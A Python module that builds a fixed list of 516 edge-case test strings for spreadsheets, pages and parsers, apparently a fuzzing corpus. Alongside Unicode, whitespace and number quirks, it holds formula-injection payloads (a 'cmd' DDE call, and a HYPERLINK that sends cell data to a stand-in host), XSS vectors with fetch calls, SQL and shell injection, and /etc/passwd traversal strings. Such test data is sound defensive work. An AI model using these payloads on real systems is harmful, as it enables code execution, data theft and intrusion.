"""516 strings that break spreadsheets, pages and parsers: prompts, file names and models use them.

Made here by rule, so the list is the same every time: formulas in every disguise, quotes and
separators, line ends, control characters, both text directions, combining marks, emoji, look-alike
digits, markup, addresses, numbers and dates in text.
"""

from collections.abc import Iterator

COUNT = 516

_STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "''=", "\uff1d", "\uff0b", "\uff0d",
    "\uff20", "\u00a0=", "\ufeff=", "\u200b=", '"=', ";=", ",=",
)  # fmt: skip
_FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://a.example/?"&A1,"go")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://a.example")',
    "A1",
    '"a"&"b"',
    "IF(TRUE,1/0,2)",
    'DDE("soffice";"a";"b")',
    "1;2,3",
)
_MARKUP = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "\"><img src=x onerror='{}'>",
    "' onmouseover='{}",
    "javascript:{}",
    "<iframe srcdoc='<script>{}</script>'>",
    "<style>*{{background:url(http://a.example)}}</style>{}",
    "<!--<script>{}",
    "]]><script>{}</script>",
    "<link rel=stylesheet href=http://a.example/{}>",
    "<meta http-equiv=refresh content='0;url=http://a.example/{}'>",
    "<base href=http://a.example/{}>",
    "<form action=http://a.example><input autofocus onfocus={}>",
    "<details open ontoggle={}>",
)
_SCRIPTS = ("window.hit=1", "fetch('http://a.example')", "document.title='hit'", "top.hit=1")
_TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in y %}", "%s%n%x", "$(id)", "`id`",
    "|| id", "; drop table images; --", "' OR 1=1 --", "../../etc/passwd", "..\\..\\x",
    "C:\\a\\b", "file:///etc/passwd", "\\x00", "\\u202e", "%00", "%2e%2e%2f", "&lt;b&gt;",
    "&amp;", "&#0;",
)  # fmt: skip
_NUMBERS = (
    "0", "007", "1e5", "1E-3", "1,5", "1.000,5", "0x1F", "1/2", "3-4", "2024-01-31",
    "31.1.2024", "12:30", "TRUE", "false", "NaN", "nan", "inf", "-inf", "-", "+", "1_000",
    "1 000", "5 %", "$5", "12345678901234567890", "0.1000000000000000055511151231257827",
    "null", "None", "N/A", "#N/A", "#REF!", "ok",
)  # fmt: skip
_LINES = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029")
_QUOTES = (
    '"', '""', '"""', "'", "''", "`", "\u201c\u201d", "\u2018\u2019", "\u00ab\u00bb", '",',
    ',"', '";', '\\"', '"\n"', '","', "\\",
)  # fmt: skip
_FRAMES = ("{}", "a{}b", "{}b", "a{}", "{0}{0}", "a, {} b; c")
_ALPHABETS = (
    "一只猫坐在红色的椅子上",
    "赤い椅子に座る猫",
    "빨간 의자에 앉은 고양이",
    "قطة على كرسي أحمر",
    "חתול על כיסא אדום",
    "кот на красном стуле",
    "γάτα σε κόκκινη καρέκλα",
    "लाल कुर्सी पर बिल्ली",
    "แมวบนเก้าอี้สีแดง",
    "ßẞıİſﬁǅ",
    "Ａ１％＝",
    "٠١٢٣٤٥٦٧٨٩",
    "①②③½⅓",
    "𝕳𝖊𝖑𝖑𝖔 𝒲𝑜𝓇𝓁𝒹",
    "𠜎𠜱𠝹",
    "˙ɐnbᴉlɐ",
)
_EMOJI = (
    "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇺🇸🇷🇺", "👍🏿", "❤️", "1️⃣", "🫠",
    "\U0001f9d1\u200d\U0001f4bb", "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
)  # fmt: skip
_DIRECTIONS = ("\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200f", "\u061c")
_INVISIBLE = (
    "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060", "\u180e", "\u3164", "\ufffd", "\ufffe",
    "\uffff", "\U0010ffff", "\ue000",
)  # fmt: skip
_SPACES = (
    "", " ", "  ", "\t", "\t\t", "\u00a0", "\u3000", " a", "a ", " a ", "\ta", "a\t", "a  b",
    "\n", "\r\n", "\n\na",
)  # fmt: skip


def strings() -> list[str]:
    """The list, in order, without repeats."""
    found = list(dict.fromkeys(_all()))
    return found[:COUNT]


def _all() -> Iterator[str]:
    yield from (start + formula for start in _STARTS for formula in _FORMULAS)
    yield from (m.format(s) for m in _MARKUP for s in _SCRIPTS[:3])
    yield from _SPACES
    yield from _TEMPLATES
    yield from _NUMBERS
    yield from (frame.format(q) for q in _QUOTES for frame in _FRAMES[:3])
    yield from (f"a{end}b" for end in _LINES)
    yield from (f"{chr(code)}a{chr(code)}b" for code in range(32) if code not in (9, 10, 13))
    yield from (f"a{chr(code)}b" for code in (*range(0x7F, 0x85), 0xA0, 0xAD))
    yield from _ALPHABETS
    yield from _EMOJI
    yield from (f"{mark}cat{mark} 12" for mark in _DIRECTIONS)
    yield from (f"{mark}c{mark}" for mark in _INVISIBLE)
    yield from ("".join(c + 4 * chr(0x300 + n) for c in "zalgo") for n in range(12))
    yield from ("a" * 300, "é" * 300, "\u0301" * 60, "name\udcff.png", "\udcfe=1+1")
    yield from (f"a{sign}{word}" for sign in ",;|\t" for word in ("b", "=1", '"', "'"))
    yield from (frame.format(emoji) for emoji in _EMOJI for frame in _FRAMES[1:])
